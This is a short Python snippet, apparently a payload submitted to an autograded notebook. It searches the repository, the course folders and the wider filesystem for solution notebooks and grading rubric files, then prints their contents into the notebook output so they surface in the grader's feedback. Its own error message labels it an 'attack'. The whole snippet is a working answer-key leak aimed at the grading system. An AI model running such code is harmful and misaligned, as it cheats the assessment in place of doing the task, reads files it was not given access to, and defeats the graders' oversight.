# Read solutions/ and the rubric from disk and print them into the notebook (and so the feedback).
import glob
for pattern in ["$repo/solutions/*/*.ipynb", "$repo/grading/rubric/*.toml", "$course/../**/solutions/*/*.ipynb"]:
    for path in glob.glob(pattern, recursive=True)[:4]:
        try:
            print(open(path).read())
        except Exception as e:
            print("attack failed:", path, type(e).__name__)
print("solutions found:", glob.glob("/**/solutions", recursive=True)[:5])
